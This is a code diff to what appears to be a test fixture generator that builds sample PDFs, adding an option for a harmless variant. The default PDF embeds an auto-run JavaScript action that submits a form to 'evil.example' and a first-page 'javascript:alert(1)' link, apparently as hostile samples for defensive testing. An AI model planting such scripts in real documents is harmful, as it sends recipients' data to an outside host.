@@ -151,19 +151,20 @@ export function makeSound(seconds: number): Uint8Array {
 }
 
 /**
- * A document of so many pages, each with a line of text and a link to the web; the first also with a link of script, and the whole
- * with a script that would run on opening.
+ * A document of so many pages, each with a line of text and a link to the web. Unless it is harmless, the link of the first page is a
+ * script, and another script would run on opening.
  */
-export function makePdf(pages: number): Uint8Array {
+export function makePdf(pages: number, { harmless = false } = {}): Uint8Array {
   const objects: string[] = [];
   const add = (body: string) => objects.push(body);
   const kids = Array.from({ length: pages }, (_, index) => `${5 + index * 2} 0 R`).join(' ');
-  add('<< /Type /Catalog /Pages 2 0 R /Lang (id) /OpenAction 4 0 R >>');
+  add(`<< /Type /Catalog /Pages 2 0 R /Lang (id) ${harmless ? '' : '/OpenAction 4 0 R '}>>`);
   add(`<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`);
   add('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>');
-  add('<< /S /JavaScript /JS (app.alert\\("x"\\); this.submitForm\\("https://evil.example/"\\)) >>');
+  if (harmless) add('<< >>');
+  else add('<< /S /JavaScript /JS (app.alert\\("x"\\); this.submitForm\\("https://evil.example/"\\)) >>');
   for (let page = 1; page <= pages; page += 1) {
-    const uri = page === 1 ? 'javascript:alert(1)' : 'https://contoh.go.id/panduan';
+    const uri = page === 1 && !harmless ? 'javascript:alert(1)' : 'https://contoh.go.id/panduan';
     const link = `<< /Type /Annot /Subtype /Link /Rect [60 600 260 640] /Border [0 0 0] /A << /S /URI /URI (${uri}) >> >>`;
     add(
       `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 595] /Contents ${4 + page * 2} 0 R /Resources << /Font << /F1 3 0 R >> >> /Annots [${link}] >>`,
